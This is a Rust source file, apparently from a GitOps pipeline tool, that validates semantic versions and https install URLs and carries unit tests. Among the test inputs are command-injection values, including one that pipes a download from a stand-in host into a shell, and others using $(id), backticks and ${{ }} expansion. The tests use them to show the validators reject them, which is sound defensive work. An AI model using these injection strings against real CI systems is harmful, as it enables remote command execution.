//! The grammars of `tool:` and `gitops.repository`: exact versions (semver.org 2.0.0, the whole
//! string) and URLs a pipeline may fetch from.

use crate::model::decode::reference::check_domain;

/// Why `version` is not a valid semantic version in the grammar of semver.org 2.0.0:
/// `MAJOR.MINOR.PATCH`, numbers without leading zeros, then optionally `-` and dot-separated
/// pre-release identifiers (`[0-9A-Za-z-]`, numeric ones without leading zeros) and `+` and
/// dot-separated build identifiers (`[0-9A-Za-z-]`).
pub(super) fn check_semver(version: &str) -> Result<(), &'static str> {
    let (rest, build) = match version.split_once('+') {
        Some((rest, build)) => (rest, Some(build)),
        None => (version, None),
    };
    let (core, pre) = match rest.split_once('-') {
        Some((core, pre)) => (core, Some(pre)),
        None => (rest, None),
    };
    let numbers: Vec<&str> = core.split('.').collect();
    if numbers.len() != 3 || !numbers.iter().all(|n| is_number(n)) {
        return Err("it does not start with MAJOR.MINOR.PATCH");
    }
    if numbers.iter().any(|n| has_leading_zero(n)) {
        return Err("a number has a leading zero");
    }
    if let Some(pre) = pre {
        let ids: Vec<&str> = pre.split('.').collect();
        if !ids.iter().all(|id| is_identifier(id)) {
            return Err(
                "its pre-release (after `-`) is not dot-separated identifiers of letters, \
                 digits and `-`",
            );
        }
        if ids.iter().any(|id| is_number(id) && has_leading_zero(id)) {
            return Err("a numeric pre-release identifier has a leading zero");
        }
    }
    if let Some(build) = build
        && !build.split('.').all(is_identifier)
    {
        return Err(
            "its build metadata (after `+`) is not dot-separated identifiers of letters, digits \
             and `-`",
        );
    }
    Ok(())
}

fn is_number(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit())
}

fn has_leading_zero(number: &str) -> bool {
    number.len() > 1 && number.starts_with('0')
}

fn is_identifier(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
}

/// The path of an `https://` URL whose host is a domain (and port) without credentials.
fn https_path(url: &str) -> Result<&str, String> {
    let Some(rest) = url.strip_prefix("https://") else {
        return Err("it does not start with `https://`".to_owned());
    };
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    if authority.contains('@') {
        return Err("it holds credentials (`user@`); never write a token into the model".into());
    }
    check_domain(authority)?;
    Ok(path)
}

/// An environment's address: `https://host[:port]` and an optional path of letters, digits
/// and `-._~/`. Nothing a CI system could expand (`$`, `%`, `${{`) fits in it.
pub(crate) fn check_site_url(url: &str) -> Result<(), String> {
    let path = https_path(url)?;
    match path
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || "-._~/".contains(*c)))
    {
        Some(c) => Err(format!(
            "its path holds {}, which a plain address does not (letters, digits, `-._~/` only)",
            shown_char(c)
        )),
        None => Ok(()),
    }
}

/// Why `url` is not a plain https URL a pipeline may install from: `https://host[:port]/path`,
/// without credentials, query or fragment, the path made of letters, digits, `-._~/` and `%XX`
/// escapes only (no shell metacharacter, quote or whitespace).
pub(super) fn check_https_url(url: &str) -> Result<(), String> {
    let path = https_path(url)?;
    if path.is_empty() {
        return Err("it names no repository path".to_owned());
    }
    let bytes = path.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b == b'%' {
            let escape = bytes.get(i + 1..i + 3);
            if !escape.is_some_and(|e| e.iter().all(u8::is_ascii_hexdigit)) {
                return Err("it has a `%` that does not start a `%XX` escape".to_owned());
            }
            i += 3;
            continue;
        }
        if !(b.is_ascii_alphanumeric() || b"-._~/".contains(&b)) {
            let c = path[i..].chars().next().unwrap_or_default();
            return Err(format!(
                "it holds {}, which a plain URL path does not (letters, digits, `-._~/` and \
                 `%XX` only)",
                shown_char(c)
            ));
        }
        i += 1;
    }
    Ok(())
}

/// Whether an http(s) URL carries a user or password (`https://token@host/…`).
pub(super) fn has_credentials(url: &str) -> bool {
    let Some(rest) = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"))
    else {
        return false;
    };
    rest.split('/').next().is_some_and(|a| a.contains('@'))
}

/// A character for a message: in backticks, or its escape when it is not printable.
fn shown_char(c: char) -> String {
    if c.is_control() || c.is_whitespace() {
        format!("{c:?}")
    } else if c == '`' {
        "`` ` ``".to_owned()
    } else {
        format!("`{c}`")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn versions_follow_the_semver_grammar_in_full() {
        for ok in [
            "0.1.0",
            "1.2.3",
            "10.20.30",
            "1.0.0-alpha",
            "1.0.0-alpha.1",
            "1.0.0-0.3.7",
            "1.0.0-x.7.z.92",
            "1.0.0-x-y-z.--",
            "1.0.0+20130313144700",
            "1.0.0-beta+exp.sha.5114f85",
            "1.0.0+21AF26D3----117B344092BD",
            "1.0.0-rc.1+build.001",
        ] {
            assert_eq!(check_semver(ok), Ok(()), "{ok}");
        }
        for bad in [
            "",
            "1",
            "1.2",
            "1.2.3.4",
            "01.2.3",
            "1.02.3",
            "1.2.03",
            "v1.2.3",
            "1.2.3-",
            "1.2.3+",
            "1.2.3-01",
            "1.2.3-a..b",
            "1.2.3-a_b",
            "1.2.3+a..b",
            "1.2.3+a+b",
            " 1.2.3",
            "0.1.0-x;curl${IFS}evil.example|sh;",
            "1.2.3-$(id)",
            "1.2.3-`id`",
            "1.2.3-a\nb",
            "1.2.3-${{x}}",
        ] {
            assert!(check_semver(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn install_urls_are_plain_https() {
        for ok in [
            "https://github.com/gitops-gen/gitops-gen",
            "https://github.com/gitops-gen/gitops-gen.git",
            "https://git.example.com:8443/a/b~c/d%20e.git",
        ] {
            assert_eq!(check_https_url(ok), Ok(()), "{ok}");
        }
        for (bad, why) in [
            ("http://example.com/g.git", "https://"),
            ("https://example.com", "no repository path"),
            ("https://user:token@example.com/g.git", "credentials"),
            ("https://token@example.com/g.git", "credentials"),
            ("https://example.com/g.git;id", "`;`"),
            ("https://example.com/x'$(id)'", "`'`"),
            ("https://example.com/$(id)", "`$`"),
            ("https://example.com/`id`", "`` ` ``"),
            ("https://example.com/a b", "' '"),
            ("https://example.com/a\nb", "'\\n'"),
            ("https://example.com/a?b=c", "`?`"),
            ("https://example.com/a#b", "`#`"),
            ("https://example.com/%zz", "`%`"),
            ("https://exa$mple.com/a", "host"),
            ("https://example.com/${{ x }}", "`$`"),
        ] {
            match check_https_url(bad) {
                Ok(()) => panic!("{bad:?} was accepted"),
                Err(e) => assert!(e.contains(why), "{bad:?}: {e}"),
            }
        }
    }

    #[test]
    fn credentials_in_http_urls() {
        assert!(has_credentials("https://x:y@github.com/a/b"));
        assert!(has_credentials("http://token@host/a"));
        assert!(!has_credentials("https://github.com/a@b"));
        assert!(!has_credentials("ssh://git@github.com/a/b"));
        assert!(!has_credentials("git@github.com:a/b"));
    }
}
